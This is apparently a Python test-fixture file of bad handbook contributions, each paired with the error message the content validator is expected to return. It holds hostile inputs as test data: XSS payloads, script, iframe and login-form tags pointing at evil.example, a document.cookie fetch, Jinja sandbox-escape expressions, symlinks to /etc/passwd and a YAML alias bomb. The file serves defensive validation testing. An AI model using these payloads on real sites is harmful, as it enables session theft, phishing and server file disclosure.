"""Bad contributions an editor might make, as (name, path, content) — the expected messages live in the test."""

from __future__ import annotations

GOOD_PLAYBOOK = """---
title: 測試劇本
phase: 溝通
summary: 一個用來測試的劇本。
symptoms:
  - 不知道該找誰
departments:
  - operations
prep_minutes: 10
run_minutes: 30
steps:
  - text: 第一步
    minutes: 10
    owner: operations
  - text: 第二步
    minutes: 20
    owner: operations
pitfalls:
  - 繞過負責人
checklists:
  - project-kickoff
meeting:
  type: kickoff
  minutes: 45
source: 原文〈首先，我們要做好溝通工作〉
owner: 運營部
review_by: 2027-06-30
---

內文。
"""

GOOD_CHECKLIST = """title: 測試檢核表
summary: 測試用。
phase: 溝通
owner: 運營部
review_by: 2027-06-30
sections:
  - id: first
    title: 第一段
    items:
      - id: one
        text: 第一項
      - id: two
        text: 第二項
"""


def playbook(old: str, new: str) -> str:
    """The good playbook with one edit."""
    assert old in GOOD_PLAYBOOK, old
    return GOOD_PLAYBOOK.replace(old, new, 1)


def checklist(old: str, new: str) -> str:
    """The good checklist with one edit."""
    assert old in GOOD_CHECKLIST, old
    return GOOD_CHECKLIST.replace(old, new, 1)


P = "playbooks/test-play.md"
C = "checklists/test-list.yml"

BAD = [
    ("bad-yaml", P, playbook("title: 測試劇本", "title: [測試劇本")),
    ("tab-indent", P, playbook("  - 不知道該找誰", "\t- 不知道該找誰")),
    ("byte-order-mark", P, "\ufeff" + GOOD_PLAYBOOK),
    ("big5", P, GOOD_PLAYBOOK.encode("big5")),
    ("wrong-type-minutes", P, playbook("run_minutes: 30", "run_minutes: 三十")),
    ("quoted-number", P, playbook("prep_minutes: 10", 'prep_minutes: "10"')),
    ("empty-title", P, playbook("title: 測試劇本", 'title: ""')),
    ("unknown-field", P, playbook("owner: 運營部", "owner: 運營部\ncolour: 藍色")),
    ("misspelled-field", P, playbook("pitfalls:", "pitfall:")),
    ("missing-field", P, playbook("summary: 一個用來測試的劇本。\n", "")),
    ("unknown-department", P, playbook("departments:\n  - operations", "departments:\n  - operations\n  - salse")),
    ("unknown-step-owner", P, playbook("    minutes: 20\n    owner: operations", "    minutes: 20\n    owner: sales")),
    ("unknown-checklist", P, playbook("  - project-kickoff", "  - project-kickof")),
    ("minutes-do-not-add-up", P, playbook("run_minutes: 30", "run_minutes: 35")),
    ("html-in-field", P, playbook("summary: 一個用來測試的劇本。", "summary: 一個<b>重要</b>的劇本。")),
    ("script-in-title", P, playbook("title: 測試劇本", "title: <script>alert(1)</script>")),
    ("template-code", P, playbook("summary: 一個用來測試的劇本。", "summary: 一個 {{ config }} 劇本。")),
    ("over-long-title", P, playbook("title: 測試劇本", "title: " + "很長" * 31)),
    ("simplified-characters", P, playbook("summary: 一個用來測試的劇本。", "summary: 这个剧本用来测试。")),
    ("date-wrong-format", P, playbook("review_by: 2027-06-30", "review_by: 2027/06/30")),
    ("impossible-date", P, playbook("review_by: 2027-06-30", "review_by: 2027-02-30")),
    ("bad-phase", P, playbook("phase: 溝通", "phase: 溝通協調")),
    ("bad-when", P, playbook("    minutes: 20\n    owner: operations", "    minutes: 20\n    owner: operations\n    when: T21")),
    ("bad-mode", P, playbook("    minutes: 20\n    owner: operations", "    minutes: 20\n    owner: operations\n    mode: online")),
    ("prepare-unknown-department", P, playbook("  minutes: 45", "  minutes: 45\n  prepare:\n    salse:\n      - 帶預算上限")),
    ("prepare-not-attending", P, playbook("  minutes: 45", "  minutes: 45\n  prepare:\n    sales:\n      - 帶預算上限")),
    ("prepare-not-a-list", P, playbook("  minutes: 45", "  minutes: 45\n  prepare:\n    operations: 帶預算上限")),
    ("prepare-too-long", P, playbook("  minutes: 45", "  minutes: 45\n  prepare:\n    operations:\n      - " + "帶" * 81)),
    ("slug-in-file", P, playbook("title: 測試劇本", "slug: test-play\ntitle: 測試劇本")),
    ("duplicate-key", P, playbook("owner: 運營部", "owner: 運營部\nowner: 銷售部")),
    ("no-front-matter", P, GOOD_PLAYBOOK.removeprefix("---\n")),
    ("unclosed-front-matter", P, GOOD_PLAYBOOK.replace("\n---\n\n內文。", "\n\n內文。")),
    ("empty-file", P, ""),
    ("not-a-mapping", C, "- 一\n- 二\n"),
    ("wrong-folder", "playbooks/test-list.yml", GOOD_CHECKLIST),
    ("subfolder", "playbooks/drafts/test-play.md", GOOD_PLAYBOOK),
    ("bad-file-name", "playbooks/Test Play.md", GOOD_PLAYBOOK),
    ("duplicate-item-id", C, checklist("      - id: two", "      - id: one")),
    ("department-and-phase", C, checklist("phase: 溝通", "phase: 溝通\ndepartment: sales")),
    ("bad-field-type", C, checklist("        text: 第二項", "        text: 第二項\n    fields:\n      - id: amount\n        label: 金額\n        type: money")),
    ("project-fact-wrong-type", C, checklist("        text: 第二項", "        text: 第二項\n    fields:\n      - id: who\n"
                                             "        label: 填寫人\n        type: person\n        project: eventDate")),
    ("project-fact-template", C, checklist("        text: 第二項", "        text: 第二項\n    fields:\n      - id: day\n"
                                           "        label: 活動日\n        type: date\n        project: \"{{ config }}\"")),
    ("bad-item-id", C, checklist("      - id: two", "      - id: Two Item")),
    ("empty-section", C, checklist("    items:\n      - id: one\n        text: 第一項\n      - id: two\n        text: 第二項\n", "")),
]


# --- hostile or careless contributions: content is data, never code (issue 13) ---------------------------

from pathlib import Path  # noqa: E402

from handbook.content.sources import field_line  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
D = "docs/test-page.md"


class Symlink(str):
    """A contribution that is a symbolic link to this target instead of a file."""


def body(text: str) -> str:
    """The good playbook with text as its prose."""
    return GOOD_PLAYBOOK.replace("\n內文。\n", "\n" + text + "\n")


def page(text: str, front: str = "title: 測試頁") -> str:
    """A hand-written page under docs/."""
    return f"---\n{front}\n---\n\n{text}\n"


def first_playbook() -> tuple[str, int | None]:
    """A real playbook (file name and path_order) to collide with."""
    for path in sorted((ROOT / "playbooks").glob("*.md")):
        for line in path.read_text(encoding="utf-8").split("\n"):
            if line.startswith("path_order:"):
                return path.stem, int(line.split(":")[1])
    raise LookupError("no playbook declares path_order")


TAKEN_SLUG, TAKEN_ORDER = first_playbook()
TAKEN = f"playbooks/{TAKEN_SLUG}.md"

BAD += [
    ("body-script", P, body("說明。<script>alert(document.cookie)</script>")),
    ("body-script-uppercase", P, body("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")),
    ("body-iframe", P, body('<iframe src="https://evil.example/"></iframe>')),
    ("body-meta-refresh", P, body('<meta http-equiv="refresh" content="0;url=https://evil.example/">')),
    ("body-base", P, body('<base href="https://evil.example/">')),
    ("body-link-stylesheet", P, body('<link rel="stylesheet" href="https://evil.example/x.css">')),
    ("body-style-element", P, body("<style>body { display: none }</style>")),
    ("body-object", P, body('<object data="https://evil.example/x.swf"></object>')),
    ("body-embed", P, body('<embed src="https://evil.example/x.swf">')),
    ("body-form", P, body('<form action="https://evil.example/"><input name="pw"></form>')),
    ("body-svg-onload", P, body("<svg onload=alert(1)></svg>")),
    ("body-event-handler", P, body('<span onmouseover="alert(1)">滑過來</span>')),
    ("body-style-attribute", P, body('<span style="position:fixed;top:0">假公告</span>')),
    ("body-javascript-link", P, body("[點我](javascript:alert(1))")),
    ("body-javascript-entity-tab", P, body("[點我](java&#9;script:alert(1))")),
    ("body-javascript-mixed-case", P, body('<a href="JaVaScRiPt:alert(1)">點我</a>')),
    ("body-vbscript-link", P, body("[點我](vbscript:msgbox(1))")),
    ("body-data-image", P, body("![圖](data:image/svg+xml;base64,PHN2Zz4=)")),
    ("body-javascript-reference", P, body("[點我][x]\n\n[x]: javascript:alert(1)")),
    ("body-javascript-autolink", P, body("<javascript:alert(1)>")),
    ("body-attr-list-handler", P, body('## 小標 {: onmouseover="alert(1)" }')),
    ("body-attr-list-style", P, body("一段話。\n{: style=\"display:none\" }")),
    ("body-external-image", P, body("![追蹤像素](https://evil.example/pixel.png)")),
    ("body-protocol-relative-image", P, body('<img src="//evil.example/pixel.png" alt="">')),
    ("body-srcset", P, body('<img src="a.png" srcset="https://evil.example/x.png 2x" alt="">')),
    ("body-external-link", P, body("[公司公告](https://evil.example/login)")),
    ("body-unclosed-tag", P, body('<img src="a.png"\nonerror="alert(1)">')),
    ("body-internal-placeholder", P, body('<div data-hb-slot="0"></div>')),
    ("body-duplicate-heading-id", P, body("## 甲 {#same}\n\n## 乙 {#same}")),
    ("body-generated-heading-id", P, body("## 我的步驟 {#steps}")),
    ("body-long-line", P, body("很" * 5001)),
    ("body-many-brackets", P, body("[" * 600)),
    ("file-too-large", P, body(("一段很長的說明文字。" * 50 + "\n\n") * 450)),
    ("yaml-anchor", P, playbook("symptoms:\n  - 不知道該找誰", "symptoms: &s\n  - 不知道該找誰")),
    ("yaml-alias-bomb", C, "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                           "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n" + GOOD_CHECKLIST),
    ("title-newline", P, playbook("title: 測試劇本", 'title: "測試\\n劇本"')),
    ("title-zero-width", P, playbook("title: 測試劇本", 'title: "測試\\u200b劇本"')),
    ("title-bidi-override", P, playbook("title: 測試劇本", 'title: "測試\\u202e本劇"')),
    ("title-nul", P, playbook("title: 測試劇本", 'title: "測試\\0劇本"')),
    ("summary-jinja-comment", P, playbook("summary: 一個用來測試的劇本。", "summary: 一個 {# 註解 #} 劇本。")),
    ("section-title-markdown-link", C, checklist("    title: 第一段", "    title: 請先登入[公司系統](https://evil.example)")),
    ("item-text-attr-list", C, checklist("        text: 第二項", "        text: '第二項 {: onclick=alert(1) }'")),
    ("meeting-too-short", P, playbook("  minutes: 45", "  minutes: 5")),
    ("duplicate-path-order", P, playbook("review_by: 2027-06-30", f"review_by: 2027-06-30\npath_order: {TAKEN_ORDER}")),
    ("content-symlink", "playbooks/leak.md", Symlink("/etc/passwd")),
    ("docs-symlink", "docs/leak.md", Symlink("/etc/passwd")),
    ("docs-globals-escape", D, page("{{ phase_diagram.__globals__ }}")),
    ("docs-class-escape", D, page("正文\n\n{{ ''.__class__.__mro__[1].__subclasses__() }}")),
    ("docs-config-leak", D, page("{{ config }}")),
    ("docs-include-file", D, page('{% include "../mkdocs.yml" %}')),
    ("docs-template-syntax", D, page("{{ phase_diagram( }}")),
    ("docs-macro-bad-argument", D, page('{{ swimlane("no-such-playbook") }}')),
    ("docs-script", D, page("<script>alert(1)</script>")),
    ("docs-bad-review-by", D, page("正文", "title: 測試頁\nreview_by: 2027/06/30")),
    ("docs-generated-field", D, page("正文", "title: 測試頁\nhb_kind: playbooks\nhb_id: one-channel")),
    ("docs-unknown-field", D, page("正文", "title: 測試頁\nrender_macro: true")),
    ("docs-bad-front-matter", D, page("正文", "title: [測試頁")),
    ("docs-shadowed-page", "docs/playbooks/index.md", page("我的劇本索引")),
]


def case_with_nan() -> tuple[str, int]:
    """A real case whose first retrospective target is YAML's not-a-number, and that line."""
    path = next(p for p in sorted((ROOT / "cases").glob("*.md")) if "      target: " in p.read_text(encoding="utf-8"))
    lines = path.read_text(encoding="utf-8").split("\n")
    line = next(n for n, text in enumerate(lines) if text.startswith("      target: "))
    lines[line] = "      target: .nan"
    return "\n".join(lines), line + 1


NAN_CASE, NAN_LINE = case_with_nan()
BAD += [("number-not-a-number", "cases/nan-case.md", NAN_CASE)]


# --- around the pipeline: files, reserved ids and classes, URLs, links (issue 26) -------------------------

PNG_HEADER = b"\x89PNG\r\n\x1a\n"
DOCS_TYPES = "docs/ 裡只能放頁面和圖片（.md、.png、.jpg、.jpeg、.gif、.webp），不能放"
BAD += [
    ("docs-html-page", "docs/help.html", '<script src="/evil.js"></script>'),
    ("docs-script-file", "docs/evil.js", "fetch('/api?' + document.cookie)"),
    ("docs-svg", "docs/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("docs-stylesheet", "docs/images/extra.css", "body { display: none }"),
    ("docs-disguised-image", "docs/logo.png", '<svg onload="alert(1)"/>'),
    ("docs-huge-image", "docs/big.png", PNG_HEADER + bytes(1_100_000)),
    ("body-config-id", P, body('<div id="__config">{"base": "data:text/javascript,alert(1)//"}</div>')),
    ("body-config-heading", P, body("## 設定 {: #__config }")),
    ("body-handbook-id", P, body('<span id="md-search">假搜尋</span>')),
    ("body-project-page-id", P, body('<label for="x">專案名稱</label> <span id="project-name">假欄位</span>')),
    ("body-mermaid-class", P, body('<pre class="mermaid">graph TD; A-->B</pre>')),
    ("body-arithmatex-attr-list", P, body("一段話。\n{: .arithmatex }")),
    ("body-mermaid-admonition", P, body('!!! mermaid "圖"\n    內容')),
    ("body-backslash-image", P, body("![圖](/\\evil.example/a.png)")),
    ("body-backslash-link", P, body('<a href="\\\\evil.example/login">登入</a>')),
    ("body-fullwidth-host", P, body("[公司](https://ex\uff0fample.com/)")),
    ("body-missing-page-link", P, body("[見](../no-such-play.md)")),
    ("body-absolute-link", P, body("[首頁](/no/such/page/)")),
    ("body-missing-anchor", P, body("[見](budget-approval.md#no-such-part)")),
    ("docs-missing-anchor", D, page("[方法](method.md#no-such-part)")),
    ("docs-folder-link", D, page("[劇本](playbooks/)")),
]



# What `make check` says of each row of BAD, in the same order (tests/content/test_loading.py).
EXPECTED = {
        'bad-yaml': ["playbooks/test-play.md:3: YAML 格式錯誤：did not find expected ',' or ']'"],
        'tab-indent': ['playbooks/test-play.md:6: 用了 Tab 縮排，YAML 只能用空白縮排'],
        'byte-order-mark': ['playbooks/test-play.md:1: 檔案開頭有 BOM（位元組順序標記）'],
        'big5': ['playbooks/test-play.md:2: 檔案不是 UTF-8 編碼（可能是 Big5）'],
        'wrong-type-minutes': ["playbooks/test-play.md:10: run_minutes: 應為整數，但寫的是 '三十'"],
        'quoted-number': ["playbooks/test-play.md:9: prep_minutes: 應為整數，但寫的是 '10'"],
        'empty-title': ['playbooks/test-play.md:2: title: 不可為空'],
        'unknown-field': ['playbooks/test-play.md:27: colour: 不認識的欄位'],
        'misspelled-field': ['playbooks/test-play.md:2: pitfalls: 缺少必填欄位', 'playbooks/test-play.md:18: pitfall: 不認識的欄位'],
        'missing-field': ['playbooks/test-play.md:2: summary: 缺少必填欄位'],
        'unknown-department': ['playbooks/test-play.md:9: departments[1]: 找不到部門「salse」'],
        'unknown-step-owner': ['playbooks/test-play.md:17: steps[1].owner: 負責部門「sales」不在這個劇本的 departments 裡'],
        'unknown-checklist': ['playbooks/test-play.md:21: checklists[0]: 找不到檢核表「project-kickof」'],
        'minutes-do-not-add-up': ['playbooks/test-play.md:11: steps: 各步驟合計 30 分鐘，但 run_minutes 是 35 分鐘；兩者必須相等'],
        'html-in-field': ['playbooks/test-play.md:4: summary: 不可包含 HTML 標籤、模板語法或 Markdown 連結（< > {{ {% {# ]( {:）；請只寫純文字'],
        'script-in-title': ['playbooks/test-play.md:2: title: 不可包含 HTML 標籤、模板語法或 Markdown 連結（< > {{ {% {# ]( {:）；請只寫純文字'],
        'template-code': ['playbooks/test-play.md:4: summary: 不可包含 HTML 標籤、模板語法或 Markdown 連結（< > {{ {% {# ]( {:）；請只寫純文字'],
        'over-long-title': ['playbooks/test-play.md:2: title: 太長：最多 60 個字（目前 62 個字）'],
        'simplified-characters': ['playbooks/test-play.md:4: summary: 有簡體字：这、个、剧、来、测、试'],
        'date-wrong-format': ['playbooks/test-play.md:27: review_by: 日期格式應為 YYYY-MM-DD，例如 2027-06-30'],
        'impossible-date': ['playbooks/test-play.md:27: review_by: 日期「2027-02-30」不存在，請檢查月份和日子'],
        'bad-phase': ["playbooks/test-play.md:3: phase: 不是允許的值：'溝通協調'；可用的值：'溝通'、'協作'、'共贏'"],
        'bad-when': ['playbooks/test-play.md:18: steps[1].when: 時間點「T21」看不懂；請寫成 T-21（活動前 21 天）、D（活動當天）或 T+3（活動後 3 天），由事件觸發的劇本寫 觸發時 或 觸發+2（觸發後 2 天），定期會議寫 每天、每週 或 每月；T 與 D 用大寫、不加空白'],
        'bad-mode': ["playbooks/test-play.md:18: steps[1].mode: 不是允許的值：'online'；可用的值：'live'、'async'、'huddle'"],
        'prepare-unknown-department': ['playbooks/test-play.md:26: meeting.prepare.salse: 找不到部門「salse」'],
        'prepare-not-attending': ['playbooks/test-play.md:26: meeting.prepare.sales: 部門「sales」沒有參加這場會議，不需要會前準備'],
        'prepare-not-a-list': ["playbooks/test-play.md:26: meeting.prepare.operations: 應為清單（每行以 - 開頭），但寫的是 '帶預算上限'"],
        'prepare-too-long': ['playbooks/test-play.md:27: meeting.prepare.operations[0]: 太長：最多 80 個字（目前 81 個字）'],
        'slug-in-file': ['playbooks/test-play.md:2: slug: 這個欄位由檔名決定，不要寫在檔案裡'],
        'duplicate-key': ['playbooks/test-play.md:27: owner: 這個欄位重複出現了兩次'],
        'no-front-matter': ['playbooks/test-play.md:1: 檔案開頭缺少 front matter（第一行應為 ---）'],
        'unclosed-front-matter': ['playbooks/test-play.md:1: front matter 沒有結束的 --- 行'],
        'empty-file': ['playbooks/test-play.md:1: 檔案是空的'],
        'not-a-mapping': ['checklists/test-list.yml:1: 資料應為「欄位: 值」的對照表'],
        'wrong-folder': ['playbooks/test-list.yml:1: playbooks/ 只收 .md 檔（這個檔案是 .yml）'],
        'subfolder': ['playbooks/drafts/test-play.md:1: 劇本檔案要直接放在 playbooks/ 底下，不可放在子資料夾'],
        'bad-file-name': ['playbooks/Test Play.md:1: 檔名「Test Play」不能當網址代號'],
        'duplicate-item-id': ['checklists/test-list.yml:12: sections[0].items[1].id: 代號「one」在這份檢核表裡重複了'],
        'department-and-phase': ['checklists/test-list.yml:1: department 與 phase 必須二選一填寫（恰好一個）'],
        'bad-field-type': ["checklists/test-list.yml:17: sections[0].fields[0].type: 不是允許的值：'money'；可用的值：'text'、'date'、'number'、'person'"],
        'project-fact-wrong-type': ['checklists/test-list.yml:15: sections[0].fields[0]: 欄位「填寫人」接專案的活動日，type 要寫 date'],
        'project-fact-template': ["checklists/test-list.yml:18: sections[0].fields[0].project: 不是允許的值：'{{ config }}'；可用的值：'eventDate'、'target'"],
        'bad-item-id': ["checklists/test-list.yml:12: sections[0].items[1].id: 格式不對：'Two Item'"],
        'empty-section': ['checklists/test-list.yml:7: sections[0]: 每個段落至少要有一個 items 或 fields'],
        'body-script': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <script>'],
        'body-script-uppercase': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <script>'],
        'body-iframe': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <iframe>'],
        'body-meta-refresh': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <meta>'],
        'body-base': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <base>'],
        'body-link-stylesheet': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <link>'],
        'body-style-element': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <style>'],
        'body-object': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <object>'],
        'body-embed': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <embed>'],
        'body-form': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <form>', 'playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <input>'],
        'body-svg-onload': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <svg>'],
        'body-event-handler': ['playbooks/test-play.md:30: 內文: <span> 不允許 onmouseover 屬性'],
        'body-style-attribute': ['playbooks/test-play.md:30: 內文: <span> 不允許 style 屬性'],
        'body-javascript-link': ['playbooks/test-play.md:30: 內文: 不允許「javascript:」開頭的網址'],
        'body-javascript-entity-tab': ['playbooks/test-play.md:30: 內文: 不允許「javascript:」開頭的網址'],
        'body-javascript-mixed-case': ['playbooks/test-play.md:30: 內文: 不允許「javascript:」開頭的網址'],
        'body-vbscript-link': ['playbooks/test-play.md:30: 內文: 不允許「vbscript:」開頭的網址'],
        'body-data-image': ['playbooks/test-play.md:30: 內文: 不允許「data:」開頭的網址'],
        'body-javascript-reference': ['playbooks/test-play.md:32: 內文: 不允許「javascript:」開頭的網址'],
        'body-javascript-autolink': ['playbooks/test-play.md:30: 內文: 不允許「javascript:」開頭的網址'],
        'body-attr-list-handler': ['playbooks/test-play.md:30: 內文: 屬性清單不可以設定「onmouseover」'],
        'body-attr-list-style': ['playbooks/test-play.md:31: 內文: 屬性清單不可以設定「style」'],
        'body-external-image': ['playbooks/test-play.md:30: 內文: 圖片或其他資源只能放在手冊自己的網站裡，不可來自「evil.example」'],
        'body-protocol-relative-image': ['playbooks/test-play.md:30: 內文: 圖片或其他資源只能放在手冊自己的網站裡，不可來自「evil.example」'],
        'body-srcset': ['playbooks/test-play.md:30: 內文: <img> 不允許 srcset 屬性'],
        'body-external-link': ['playbooks/test-play.md:30: 內文: 連到其他主機「evil.example」的連結不允許（內網看不到，也可能是釣魚）'],
        'body-unclosed-tag': ['playbooks/test-play.md:30: 內文: HTML 標籤 <img> 沒有在同一行結束'],
        'body-internal-placeholder': ['playbooks/test-play.md:30: 內文: 「data-hb-slot」是手冊內部使用的記號，內文不能用', 'playbooks/test-play.md:30: 內文: <div> 不允許 data-hb-slot 屬性'],
        'body-duplicate-heading-id': ['playbooks/test-play.md:32: 內文: 標題代號「#same」在這一頁重複了'],
        'body-generated-heading-id': ['playbooks/test-play.md:30: 內文: 標題代號「#steps」是手冊產生的段落在用的'],
        'body-long-line': ['playbooks/test-play.md:30: 這一行太長：5001 個字，上限是 5000 個字'],
        'body-many-brackets': ['playbooks/test-play.md:30: 這一段有超過 500 個「[」'],
        'file-too-large': ['playbooks/test-play.md:1: 檔案太大：676 KB，上限是 200 KB'],
        'yaml-anchor': ['playbooks/test-play.md:5: 不能用 YAML 的錨點（&）或別名（*）'],
        'yaml-alias-bomb': ['checklists/test-list.yml:1: 不能用 YAML 的錨點（&）或別名（*）'],
        'title-newline': ['playbooks/test-play.md:2: title: 不可換行；這個欄位只能寫一行文字'],
        'title-zero-width': ['playbooks/test-play.md:2: title: 含有看不見的字元 U+200B（零寬或改變文字方向）；請刪掉後重打這段文字'],
        'title-bidi-override': ['playbooks/test-play.md:2: title: 含有看不見的字元 U+202E（零寬或改變文字方向）；請刪掉後重打這段文字'],
        'title-nul': ['playbooks/test-play.md:2: title: 含有看不見的控制字元 U+0000；請刪掉後重打這段文字'],
        'summary-jinja-comment': ['playbooks/test-play.md:4: summary: 不可包含 HTML 標籤、模板語法或 Markdown 連結（< > {{ {% {# ]( {:）；請只寫純文字'],
        'section-title-markdown-link': ['checklists/test-list.yml:8: sections[0].title: 不可包含 HTML 標籤、模板語法或 Markdown 連結（< > {{ {% {# ]( {:）；請只寫純文字'],
        'item-text-attr-list': ['checklists/test-list.yml:13: sections[0].items[1].text: 不可包含 HTML 標籤、模板語法或 Markdown 連結（< > {{ {% {# ]( {:）；請只寫純文字'],
        'meeting-too-short': ['playbooks/test-play.md:22: meeting.minutes: 專案啟動會至少要 30 分鐘，這裡只給了 5 分鐘'],
        'duplicate-path-order': [
            f'{TAKEN}:{field_line(ROOT / TAKEN, "path_order")}: path_order: path_order {TAKEN_ORDER} 和 playbooks/test-play.md 重複了',
            f'playbooks/test-play.md:28: path_order: path_order {TAKEN_ORDER} 和 {TAKEN} 重複了'],
        'content-symlink': ['playbooks/leak.md:1: 內容資料夾裡不可以有符號連結（symlink）'],
        'docs-symlink': ['docs/leak.md:1: docs/ 裡不可以有符號連結（symlink）：它可能把主機上的任何檔案發佈出去'],
        'docs-globals-escape': ['docs/test-page.md:5: 巨集: 不允許存取 Python 內部的屬性或方法（例如 __class__、__globals__）'],
        'docs-class-escape': ['docs/test-page.md:7: 巨集: 不允許存取 Python 內部的屬性或方法（例如 __class__、__globals__）'],
        'docs-config-leak': ['docs/test-page.md:5: 巨集: 沒有叫做「config」的巨集'],
        'docs-include-file': ['docs/test-page.md:5: 巨集: 頁面不能引入其他檔案（include、import、extends）'],
        'docs-template-syntax': ["docs/test-page.md:5: 巨集: 模板語法錯誤：unexpected '}', expected ')'"],
        'docs-macro-bad-argument': ['docs/test-page.md:5: 巨集: 巨集呼叫失敗：swimlane()：找不到劇本「no-such-playbook」；代號就是 playbooks/ 裡的檔名（不含副檔名）'],
        'docs-script': ['docs/test-page.md:5: 內文: 不允許 HTML 標籤 <script>'],
        'docs-bad-review-by': ['docs/test-page.md:3: review_by: 日期格式應為 YYYY-MM-DD，例如 2027-06-30'],
        'docs-generated-field': ['docs/test-page.md:3: hb_kind: 這個欄位只給手冊自動產生的頁面用', 'docs/test-page.md:4: hb_id: 這個欄位只給手冊自動產生的頁面用'],
        'docs-unknown-field': ['docs/test-page.md:3: render_macro: 不認識的欄位'],
        'docs-bad-front-matter': ["docs/test-page.md:3: YAML 格式錯誤：did not find expected ',' or ']'"],
        'docs-shadowed-page': ['docs/playbooks/index.md:1: 這一頁和手冊自動產生的頁面同名，會被蓋掉'],
        'number-not-a-number': [f'cases/nan-case.md:{NAN_LINE}: retrospective.results[0].target: 必須是一般的數字，不可寫 nan'],
        'docs-html-page': [f'docs/help.html:1: {DOCS_TYPES} .html 檔'],
        'docs-script-file': [f'docs/evil.js:1: {DOCS_TYPES} .js 檔'],
        'docs-svg': [f'docs/logo.svg:1: {DOCS_TYPES} .svg 檔'],
        'docs-stylesheet': [f'docs/images/extra.css:1: {DOCS_TYPES} .css 檔'],
        'docs-disguised-image': ['docs/logo.png:1: 這個檔案的內容不是 .png 圖片'],
        'docs-huge-image': ['docs/big.png:1: 圖片太大：1100 KB，上限是 1000 KB'],
        'body-config-id': ['playbooks/test-play.md:30: 內文: 代號「__config」是佈景主題或手冊程式保留的'],
        'body-config-heading': ['playbooks/test-play.md:30: 內文: 代號「__config」是佈景主題或手冊程式保留的'],
        'body-handbook-id': ['playbooks/test-play.md:30: 內文: 代號「md-search」是佈景主題或手冊程式保留的'],
        'body-project-page-id': ['playbooks/test-play.md:30: 內文: 不允許 HTML 標籤 <label>', 'playbooks/test-play.md:30: 內文: 代號「project-name」是佈景主題或手冊程式保留的'],
        'body-mermaid-class': ['playbooks/test-play.md:30: 內文: 不允許 class「mermaid」'],
        'body-arithmatex-attr-list': ['playbooks/test-play.md:31: 內文: 不允許 class「arithmatex」'],
        'body-mermaid-admonition': ['playbooks/test-play.md:30: 內文: 不允許 class「mermaid」'],
        'body-backslash-image': ['playbooks/test-play.md:30: 內文: 圖片或其他資源只能放在手冊自己的網站裡，不可來自「evil.example」'],
        'body-backslash-link': ['playbooks/test-play.md:30: 內文: 連到其他主機「evil.example」的連結不允許（內網看不到，也可能是釣魚）'],
        'body-fullwidth-host': ['playbooks/test-play.md:30: 內文: 網址「https://ex\uff0fample.com/」的格式看不懂（瀏覽器可能把它讀成別的主機）'],
        'body-missing-page-link': ['playbooks/test-play.md:30: 內文: 連結「../no-such-play.md」找不到頁面或檔案（會指到 docs/no-such-play.md）'],
        'body-absolute-link': ['playbooks/test-play.md:30: 內文: 連結「/no/such/page/」沒有指到 .md 檔（會指到 docs/no/such/page）'],
        'body-missing-anchor': ['playbooks/test-play.md:30: 內文: 連結「budget-approval.md#no-such-part」的段落「#no-such-part」在 docs/playbooks/budget-approval.md 裡找不到'],
        'docs-missing-anchor': ['docs/test-page.md:5: 內文: 連結「method.md#no-such-part」的段落「#no-such-part」在 docs/method.md 裡找不到'],
        'docs-folder-link': ['docs/test-page.md:5: 內文: 連結「playbooks/」沒有指到 .md 檔（會指到 docs/playbooks）'],
}


# The macro sandbox's arithmetic and loops (issue 26): their own module, merged here in order.
import bad_rows_sandbox  # noqa: E402

BAD += bad_rows_sandbox.ROWS
EXPECTED.update(bad_rows_sandbox.EXPECTED)

# Invisible characters (every default-ignorable code point) and wrong encodings, named (issue 26).
import bad_rows_text  # noqa: E402

BAD += bad_rows_text.ROWS
EXPECTED.update(bad_rows_text.EXPECTED)

# The plays' calendar: steps in time order, one scale per play, claims of order that the dates keep (issues 28, 29).
import bad_rows_calendar  # noqa: E402

BAD += bad_rows_calendar.ROWS
EXPECTED.update(bad_rows_calendar.EXPECTED)


def write(project: Path, relative: str, content: str | bytes) -> Path:
    """Write one contribution into the project (a Symlink becomes a symbolic link)."""
    target = project / relative
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, Symlink):
        target.symlink_to(content)
    else:
        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return target
